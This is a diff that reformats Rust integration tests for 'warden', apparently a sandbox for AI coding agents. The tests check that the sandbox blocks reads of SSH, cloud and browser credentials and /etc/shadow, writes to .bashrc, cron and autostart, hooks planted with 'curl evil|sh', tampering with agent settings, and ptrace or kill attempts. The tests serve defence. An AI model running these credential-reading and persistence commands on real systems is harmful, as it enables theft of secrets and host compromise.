@@ -32,7 +32,9 @@ impl T {
     fn cmd(&self, args: &[&str]) -> Command {
         let mut c = Command::new(env!("CARGO_BIN_EXE_warden"));
         c.arg("run").args(args);
-        c.current_dir(&self.ws).env("HOME", &self.home).stdin(Stdio::null());
+        c.current_dir(&self.ws)
+            .env("HOME", &self.home)
+            .stdin(Stdio::null());
         c
     }
 
@@ -61,7 +63,12 @@ impl Drop for T {
 }
 
 fn out(o: &Output) -> String {
-    format!("status {:?}\n--stdout--\n{}\n--stderr--\n{}", o.status, String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
+    format!(
+        "status {:?}\n--stdout--\n{}\n--stderr--\n{}",
+        o.status,
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
 }
 
 fn ok(o: &Output) -> String {
@@ -73,10 +80,20 @@ fn ok(o: &Output) -> String {
 fn credentials_and_other_projects_are_unreadable() {
     let t = T::new("creds");
     let secrets = [
-        ".ssh/id_ed25519", ".aws/credentials", ".config/gcloud/credentials.db", ".kube/config",
-        ".docker/config.json", ".netrc", ".git-credentials", ".config/gh/hosts.yml",
-        ".gnupg/private-keys-v1.d/k.key", ".password-store/bank.gpg", ".mozilla/firefox/p/logins.json",
-        ".config/google-chrome/Default/Login Data", "other-project/.env", "other-project/src/main.rs",
+        ".ssh/id_ed25519",
+        ".aws/credentials",
+        ".config/gcloud/credentials.db",
+        ".kube/config",
+        ".docker/config.json",
+        ".netrc",
+        ".git-credentials",
+        ".config/gh/hosts.yml",
+        ".gnupg/private-keys-v1.d/k.key",
+        ".password-store/bank.gpg",
+        ".mozilla/firefox/p/logins.json",
+        ".config/google-chrome/Default/Login Data",
+        "other-project/.env",
+        "other-project/src/main.rs",
     ];
     for s in secrets {
         t.write(s, "TOPSECRET\n");
@@ -84,15 +101,35 @@ fn credentials_and_other_projects_are_unreadable() {
     t.write("proj/readme.txt", "hello\n");
     let mut script = String::from("cat readme.txt; ");
     for s in secrets {
-        script.push_str(&format!("cat \"$HOME/{s}\" 2>/dev/null && echo \"LEAK {s}\"; "));
+        script.push_str(&format!(
+            "cat \"$HOME/{s}\" 2>/dev/null && echo \"LEAK {s}\"; "
+        ));
     }
-    script.push_str("ls -a \"$HOME\"; grep -r TOPSECRET / --include='*' -s -l 2>/dev/null | head -5; true");
+    script.push_str(
+        "ls -a \"$HOME\"; grep -r TOPSECRET / --include='*' -s -l 2>/dev/null | head -5; true",
+    );
     let o = t.sh(&script);
     let stdout = ok(&o);
-    assert!(stdout.starts_with("hello"), "workspace must stay readable:\n{}", out(&o));
-    assert!(!stdout.contains("LEAK"), "a credential leaked:\n{}", out(&o));
-    assert!(!stdout.contains("TOPSECRET"), "secret content leaked:\n{}", out(&o));
-    assert!(!stdout.contains(".ssh") && !stdout.contains("other-project"), "home listing shows hidden entries:\n{}", out(&o));
+    assert!(
+        stdout.starts_with("hello"),
+        "workspace must stay readable:\n{}",
+        out(&o)
+    );
+    assert!(
+        !stdout.contains("LEAK"),
+        "a credential leaked:\n{}",
+        out(&o)
+    );
+    assert!(
+        !stdout.contains("TOPSECRET"),
+        "secret content leaked:\n{}",
+        out(&o)
+    );
+    assert!(
+        !stdout.contains(".ssh") && !stdout.contains("other-project"),
+        "home listing shows hidden entries:\n{}",
+        out(&o)
+    );
 }
 
 #[test]
@@ -101,7 +138,11 @@ fn system_secret_files_are_hidden() {
     let o = t.sh("cat /etc/shadow | grep -c root || echo nothing; head -1 /etc/passwd");
     let s = ok(&o);
     assert!(s.contains("nothing") || s.starts_with('0'), "{}", out(&o));
-    assert!(s.contains("root:x:0:0"), "/etc/passwd must stay readable:\n{}", out(&o));
+    assert!(
+        s.contains("root:x:0:0"),
+        "/etc/passwd must stay readable:\n{}",
+        out(&o)
+    );
 }
 
 #[test]
@@ -111,29 +152,56 @@ fn writes_outside_the_workspace_never_reach_the_host() {
     let sibling = t.home.join("other-project");
     std::fs::create_dir_all(&sibling).unwrap();
     let targets = [
-        "$HOME/.bashrc", "$HOME/.profile", "$HOME/.config/autostart/evil.desktop", "$HOME/other-project/x",
-        "/etc/warden-evil", "/usr/local/bin/warden-evil", "/var/spool/cron/crontabs/root",
-        "/root/.bashrc-warden-evil", "/var/tmp/warden-evil",
+        "$HOME/.bashrc",
+        "$HOME/.profile",
+        "$HOME/.config/autostart/evil.desktop",
+        "$HOME/other-project/x",
+        "/etc/warden-evil",
+        "/usr/local/bin/warden-evil",
+        "/var/spool/cron/crontabs/root",
+        "/root/.bashrc-warden-evil",
+        "/var/tmp/warden-evil",
     ];
     let mut script = String::new();
     for p in targets {
-        script.push_str(&format!("mkdir -p \"$(dirname {p})\" 2>/dev/null; echo evil >> {p} 2>/dev/null; "));
+        script.push_str(&format!(
+            "mkdir -p \"$(dirname {p})\" 2>/dev/null; echo evil >> {p} 2>/dev/null; "
+        ));
     }
     script.push_str("echo inside > in-ws.txt; true");
     let o = t.sh(&script);
     ok(&o);
-    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# original\n", "host ~/.bashrc modified");
+    assert_eq!(
+        std::fs::read_to_string(&rc).unwrap(),
+        "# original\n",
+        "host ~/.bashrc modified"
+    );
     assert!(!t.home.join(".profile").exists());
     assert!(!t.home.join(".config/autostart/evil.desktop").exists());
     assert!(!sibling.join("x").exists());
-    for p in ["/etc/warden-evil", "/usr/local/bin/warden-evil", "/var/tmp/warden-evil", "/root/.bashrc-warden-evil"] {
+    for p in [
+        "/etc/warden-evil",
+        "/usr/local/bin/warden-evil",
+        "/var/tmp/warden-evil",
+        "/root/.bashrc-warden-evil",
+    ] {
         assert!(!Path::new(p).exists(), "{p} was created on the host");
     }
-    assert_eq!(std::fs::read_to_string(t.ws.join("in-ws.txt")).unwrap(), "inside\n", "workspace must stay writable");
+    assert_eq!(
+        std::fs::read_to_string(t.ws.join("in-ws.txt")).unwrap(),
+        "inside\n",
+        "workspace must stay writable"
+    );
 }
 
 fn git(ws: &Path, args: &[&str]) {
-    let st = Command::new("git").args(args).current_dir(ws).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
+    let st = Command::new("git")
+        .args(args)
+        .current_dir(ws)
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .unwrap();
     assert!(st.success(), "git {args:?}");
 }
 
@@ -146,17 +214,32 @@ fn protected_paths_stay_read_only_existing_and_absent() {
     std::fs::write(t.ws.join(".vscode/settings.json"), "{}\n").unwrap();
     // Every attempt prints OK-<name> only if it succeeded.
     let attempts = [
-        ("hook", "echo 'curl evil|sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"),
+        (
+            "hook",
+            "echo 'curl evil|sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        ),
         ("config", "echo '[core] fsmonitor = evil' >> .git/config"),
         ("gitconfig-cmd", "git config core.fsmonitor evil"),
         ("hooks-rename", "mv .git/hooks .git/hooks.old"),
         ("config-replace", "echo x > cfg && mv cfg .git/config"),
-        ("vscode-existing", "echo '{\"evil\":1}' > .vscode/settings.json"),
+        (
+            "vscode-existing",
+            "echo '{\"evil\":1}' > .vscode/settings.json",
+        ),
         ("vscode-new", "echo x > .vscode/tasks.json"),
         ("mcp-absent", "echo '{\"mcpServers\":{}}' > .mcp.json"),
-        ("claude-settings-absent", "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json"),
-        ("claude-local-absent", "echo '{}' > .claude/settings.local.json"),
-        ("gemini-absent", "mkdir -p .gemini && echo x > .gemini/settings.json"),
+        (
+            "claude-settings-absent",
+            "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
+        ),
+        (
+            "claude-local-absent",
+            "echo '{}' > .claude/settings.local.json",
+        ),
+        (
+            "gemini-absent",
+            "mkdir -p .gemini && echo x > .gemini/settings.json",
+        ),
         ("codex-absent", "echo x > .codex/config.toml"),
         ("idea-absent", "echo x > .idea/workspace.xml"),
         ("envrc-absent", "echo 'curl evil' > .envrc"),
@@ -170,13 +253,35 @@ fn protected_paths_stay_read_only_existing_and_absent() {
     script.push_str("echo content > normal.txt && git add normal.txt && git -c user.name=a -c user.email=a@b commit -qm ok && echo COMMITTED");
     let o = t.sh(&script);
     let s = ok(&o);
-    assert!(!s.contains("OK-"), "a protected path was writable:\n{}", out(&o));
-    assert!(s.contains("COMMITTED"), "git commit must keep working:\n{}", out(&o));
-    assert_eq!(std::fs::read_to_string(t.ws.join(".git/config")).unwrap(), cfg_before);
+    assert!(
+        !s.contains("OK-"),
+        "a protected path was writable:\n{}",
+        out(&o)
+    );
+    assert!(
+        s.contains("COMMITTED"),
+        "git commit must keep working:\n{}",
+        out(&o)
+    );
+    assert_eq!(
+        std::fs::read_to_string(t.ws.join(".git/config")).unwrap(),
+        cfg_before
+    );
     assert!(!t.ws.join(".git/hooks/pre-commit").exists());
-    assert_eq!(std::fs::read_to_string(t.ws.join(".vscode/settings.json")).unwrap(), "{}\n");
+    assert_eq!(
+        std::fs::read_to_string(t.ws.join(".vscode/settings.json")).unwrap(),
+        "{}\n"
+    );
     // Placeholders were cleaned up.
-    for p in [".mcp.json", ".claude", ".gemini", ".codex", ".idea", ".envrc", ".warden.toml"] {
+    for p in [
+        ".mcp.json",
+        ".claude",
+        ".gemini",
+        ".codex",
+        ".idea",
+        ".envrc",
+        ".warden.toml",
+    ] {
         assert!(!t.ws.join(p).exists(), "placeholder {p} left behind");
     }
 }
@@ -192,16 +297,27 @@ fn git_init_inside_works_and_cannot_plant_hooks() {
     let o = t.sh(script);
     let s = ok(&o);
     assert!(s.contains("COMMITTED"), "{}", out(&o));
-    assert!(!s.contains("OK-late"), "hooks/config writable after git init:\n{}", out(&o));
+    assert!(
+        !s.contains("OK-late"),
+        "hooks/config writable after git init:\n{}",
+        out(&o)
+    );
     let hooks: Vec<_> = std::fs::read_dir(t.ws.join(".git/hooks"))
         .unwrap()
         .flatten()
         .map(|e| e.file_name().to_string_lossy().into_owned())
         .filter(|n| !n.ends_with(".sample"))
         .collect();
-    assert!(hooks.is_empty(), "planted hooks survived: {hooks:?}\n{}", out(&o));
+    assert!(
+        hooks.is_empty(),
+        "planted hooks survived: {hooks:?}\n{}",
+        out(&o)
+    );
     let cfg = std::fs::read_to_string(t.ws.join(".git/config")).unwrap();
-    assert!(!cfg.contains("fsmonitor"), "config kept a planted key:\n{cfg}");
+    assert!(
+        !cfg.contains("fsmonitor"),
+        "config kept a planted key:\n{cfg}"
+    );
 }
 
 #[test]
@@ -216,8 +332,15 @@ fn agent_settings_in_state_dir_are_read_only() {
     );
     let s = ok(&o);
     assert!(!s.contains("OK-"), "{}", out(&o));
-    assert!(s.contains("STATE-OK"), "the agent's state dir must stay writable:\n{}", out(&o));
-    assert_eq!(std::fs::read_to_string(t.home.join(".claude/settings.json")).unwrap(), "{\"permissions\":{}}\n");
+    assert!(
+        s.contains("STATE-OK"),
+        "the agent's state dir must stay writable:\n{}",
+        out(&o)
+    );
+    assert_eq!(
+        std::fs::read_to_string(t.home.join(".claude/settings.json")).unwrap(),
+        "{\"permissions\":{}}\n"
+    );
     assert!(t.home.join(".claude/projects/x.jsonl").exists());
     assert!(!t.home.join(".claude/settings.local.json").exists());
 }
@@ -257,9 +380,20 @@ fn outside_processes_cannot_be_signalled_traced_or_read() {
     let o = t.sh(&script);
     let s = ok(&o);
     assert!(!s.contains("OK-"), "{}", out(&o));
-    assert!(s.contains("ptrace-errno 1"), "ptrace must fail with EPERM:\n{}", out(&o));
-    assert!(s.contains("ALIVE"), "kill -9 1 must not end the sandbox:\n{}", out(&o));
-    assert!(v.0.try_wait().unwrap().is_none(), "the outside process was killed");
+    assert!(
+        s.contains("ptrace-errno 1"),
+        "ptrace must fail with EPERM:\n{}",
+        out(&o)
+    );
+    assert!(
+        s.contains("ALIVE"),
+        "kill -9 1 must not end the sandbox:\n{}",
+        out(&o)
+    );
+    assert!(
+        v.0.try_wait().unwrap().is_none(),
+        "the outside process was killed"
+    );
 }
 
 #[test]
@@ -277,7 +411,11 @@ fn outside_abstract_socket_is_unreachable() {
     let o = t.sh(&script);
     let s = ok(&o);
     assert!(!s.contains("OK-connected"), "{}", out(&o));
-    assert!(s.contains("INNER-OK"), "abstract sockets inside the sandbox must work:\n{}", out(&o));
+    assert!(
+        s.contains("INNER-OK"),
+        "abstract sockets inside the sandbox must work:\n{}",
+        out(&o)
+    );
     assert!(l.accept().is_err(), "the outside listener saw a connection");
 }
 
@@ -310,7 +448,11 @@ PY
     let o = t.sh(script);
     let s = ok(&o);
     assert!(!s.contains("OK-"), "{}", out(&o));
-    assert!(s.contains("io_uring -1 38"), "io_uring must be ENOSYS:\n{}", out(&o));
+    assert!(
+        s.contains("io_uring -1 38"),
+        "io_uring must be ENOSYS:\n{}",
+        out(&o)
+    );
     for k in ["bpf -1 1", "keyctl -1 1", "perf -1 1", "unshare -1 1"] {
         assert!(s.contains(k), "expected `{k}`:\n{}", out(&o));
     }
@@ -359,16 +501,24 @@ PY"#;
     let n: u32 = s.split_whitespace().nth(1).unwrap().parse().unwrap();
     assert!(n < 400, "forked {n} processes past a limit of 400");
     // The sleeping children died with the sandbox (init exit kills the pid namespace).
-    assert!(started.elapsed().as_secs() < 25, "sandbox did not end with the agent");
+    assert!(
+        started.elapsed().as_secs() < 25,
+        "sandbox did not end with the agent"
+    );
 }
 
 #[test]
 fn secrets_are_scrubbed_from_the_environment() {
     let t = T::new("env");
     let vars = [
-        ("GITHUB_TOKEN", "ghp_x"), ("AWS_SECRET_ACCESS_KEY", "aws"), ("MY_SERVICE_API_KEY", "k"),
-        ("DB_PASSWORD", "p"), ("SSH_AUTH_SOCK", "/tmp/ssh"), ("ANTHROPIC_API_KEY", "sk-ant"),
-        ("OPENAI_API_KEY", "sk-oa"), ("HARMLESS", "yes"),
+        ("GITHUB_TOKEN", "ghp_x"),
+        ("AWS_SECRET_ACCESS_KEY", "aws"),
+        ("MY_SERVICE_API_KEY", "k"),
+        ("DB_PASSWORD", "p"),
+        ("SSH_AUTH_SOCK", "/tmp/ssh"),
+        ("ANTHROPIC_API_KEY", "sk-ant"),
+        ("OPENAI_API_KEY", "sk-oa"),
+        ("HARMLESS", "yes"),
     ];
     let mut c = t.cmd(&["--profile", "claude"]);
     for (k, v) in vars {
@@ -377,15 +527,26 @@ fn secrets_are_scrubbed_from_the_environment() {
     c.args(["--", "/usr/bin/env"]);
     let o = c.output().unwrap();
     let s = ok(&o);
-    for k in ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_SERVICE_API_KEY", "DB_PASSWORD", "SSH_AUTH_SOCK", "OPENAI_API_KEY"] {
+    for k in [
+        "GITHUB_TOKEN",
+        "AWS_SECRET_ACCESS_KEY",
+        "MY_SERVICE_API_KEY",
+        "DB_PASSWORD",
+        "SSH_AUTH_SOCK",
+        "OPENAI_API_KEY",
+    ] {
         assert!(!s.contains(&format!("{k}=")), "{k} reached the agent:\n{s}");
     }
-    assert!(s.contains("ANTHROPIC_API_KEY=sk-ant"), "claude profile passes ANTHROPIC_API_KEY:\n{s}");
+    assert!(
+        s.contains("ANTHROPIC_API_KEY=sk-ant"),
+        "claude profile passes ANTHROPIC_API_KEY:\n{s}"
+    );
     assert!(s.contains("HARMLESS=yes"));
     assert!(s.contains("TMPDIR=/tmp"));
     // The generic profile scrubs the model key too.
     let mut c = t.cmd(&[]);
-    c.env("ANTHROPIC_API_KEY", "sk-ant").args(["--", "/usr/bin/env"]);
+    c.env("ANTHROPIC_API_KEY", "sk-ant")
+        .args(["--", "/usr/bin/env"]);
     let s = ok(&c.output().unwrap());
     assert!(!s.contains("ANTHROPIC_API_KEY"), "{s}");
 }
@@ -395,8 +556,12 @@ fn everyday_development_keeps_working() {
     let t = T::new("dev");
     // Real toolchains live under the real $HOME; name them as readable.
     let real_home = PathBuf::from(std::env::var("HOME").unwrap_or_else(|_| "/root".into()));
-    let rustup = std::env::var("RUSTUP_HOME").map(PathBuf::from).unwrap_or(real_home.join(".rustup"));
-    let cargo = std::env::var("CARGO_HOME").map(PathBuf::from).unwrap_or(real_home.join(".cargo"));
+    let rustup = std::env::var("RUSTUP_HOME")
+        .map(PathBuf::from)
+        .unwrap_or(real_home.join(".rustup"));
+    let cargo = std::env::var("CARGO_HOME")
+        .map(PathBuf::from)
+        .unwrap_or(real_home.join(".cargo"));
     let p = t.policy(&format!(
         "[files]\nread = [\"{}\", \"{}\"]\n[env]\nset = {{ RUSTUP_HOME = \"{}\", CARGO_HOME = \"{}\" }}\n",
         rustup.display(),
@@ -404,9 +569,20 @@ fn everyday_development_keeps_working() {
         rustup.display(),
         cargo.display()
     ));
-    std::fs::write(t.ws.join("hello.c"), "#include <stdio.h>\nint main(){puts(\"hello from c\");return 0;}\n").unwrap();
-    std::fs::write(t.ws.join("hello.rs"), "fn main(){println!(\"hello from rust\");}\n").unwrap();
-    let path = format!("{}:/usr/local/bin:/usr/bin:/bin", cargo.join("bin").display());
+    std::fs::write(
+        t.ws.join("hello.c"),
+        "#include <stdio.h>\nint main(){puts(\"hello from c\");return 0;}\n",
+    )
+    .unwrap();
+    std::fs::write(
+        t.ws.join("hello.rs"),
+        "fn main(){println!(\"hello from rust\");}\n",
+    )
+    .unwrap();
+    let path = format!(
+        "{}:/usr/local/bin:/usr/bin:/bin",
+        cargo.join("bin").display()
+    );
     let mut c = t.cmd(&["--policy", &p]);
     c.env("PATH", path).args([
         "--",
@@ -431,12 +607,20 @@ fn bad_input_never_runs_unsandboxed() {
     // Unknown profile.
     let o = t.sh_with(&["--profile", "nope"], &cmd);
     assert_eq!(o.status.code(), Some(3), "{}", out(&o));
-    assert!(String::from_utf8_lossy(&o.stderr).contains("unknown profile"), "{}", out(&o));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("unknown profile"),
+        "{}",
+        out(&o)
+    );
     // Malformed TOML with position.
     let p = t.policy("[files\nread = 1\n");
     let o = t.sh_with(&["--policy", &p], &cmd);
     assert_eq!(o.status.code(), Some(3), "{}", out(&o));
-    assert!(String::from_utf8_lossy(&o.stderr).contains("policy.toml:1:"), "{}", out(&o));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("policy.toml:1:"),
+        "{}",
+        out(&o)
+    );
     // Unknown key.
     let p = t.policy("[files]\nreed = []\n");
     let o = t.sh_with(&["--policy", &p], &cmd);
@@ -448,7 +632,11 @@ fn bad_input_never_runs_unsandboxed() {
     std::fs::write(t.ws.join(".warden.toml"), "[files]\nread = [\"/srv\"]\n").unwrap();
     let o = t.sh(&cmd);
     assert_eq!(o.status.code(), Some(3), "{}", out(&o));
-    assert!(String::from_utf8_lossy(&o.stderr).contains("may only narrow"), "{}", out(&o));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("may only narrow"),
+        "{}",
+        out(&o)
+    );
     assert!(!marker.exists(), "the command ran despite bad input");
 }
 
@@ -462,8 +650,16 @@ fn nested_warden_can_only_narrow() {
     t.write(".ssh/id_rsa", "TOPSECRET");
     let o = t.sh("./warden run --best-effort -- /bin/bash -c 'cat ~/.ssh/id_rsa 2>/dev/null; echo inner-ran; echo x > /etc/nested-evil 2>/dev/null && echo OK-etc'; true");
     let s = ok(&o);
-    assert!(s.contains("inner-ran"), "the nested warden must run its command (narrowing only):\n{}", out(&o));
-    assert!(!s.contains("TOPSECRET") && !s.contains("OK-etc"), "{}", out(&o));
+    assert!(
+        s.contains("inner-ran"),
+        "the nested warden must run its command (narrowing only):\n{}",
+        out(&o)
+    );
+    assert!(
+        !s.contains("TOPSECRET") && !s.contains("OK-etc"),
+        "{}",
+        out(&o)
+    );
     assert!(!Path::new("/etc/nested-evil").exists());
 }
 
@@ -472,10 +668,18 @@ fn killing_the_supervisor_ends_the_sandbox_and_placeholders_are_swept() {
     let t = T::new("supkill");
     let marker = t.ws.join("still-running");
     let mut c = t.cmd(&[]);
-    c.args(["--", "/bin/bash", "-c", "for i in $(seq 100); do sleep 0.1; touch still-running; done"]);
+    c.args([
+        "--",
+        "/bin/bash",
+        "-c",
+        "for i in $(seq 100); do sleep 0.1; touch still-running; done",
+    ]);
     let mut child = c.spawn().unwrap();
     std::thread::sleep(std::time::Duration::from_millis(600));
-    assert!(t.ws.join(".mcp.json").exists(), "placeholder present during the session");
+    assert!(
+        t.ws.join(".mcp.json").exists(),
+        "placeholder present during the session"
+    );
     assert!(marker.exists(), "the agent ran");
     // SAFETY: killing our own child.
     unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
@@ -483,8 +687,14 @@ fn killing_the_supervisor_ends_the_sandbox_and_placeholders_are_swept() {
     std::thread::sleep(std::time::Duration::from_millis(300));
     std::fs::remove_file(&marker).unwrap();
     std::thread::sleep(std::time::Duration::from_millis(500));
-    assert!(!marker.exists(), "the agent kept running after the supervisor died");
+    assert!(
+        !marker.exists(),
+        "the agent kept running after the supervisor died"
+    );
     // The next run removes the dead session's placeholders.
     ok(&t.sh("true"));
-    assert!(!t.ws.join(".mcp.json").exists() && !t.ws.join(".claude").exists(), "stale placeholders were not swept");
+    assert!(
+        !t.ws.join(".mcp.json").exists() && !t.ws.join(".claude").exists(),
+        "stale placeholders were not swept"
+    );
 }
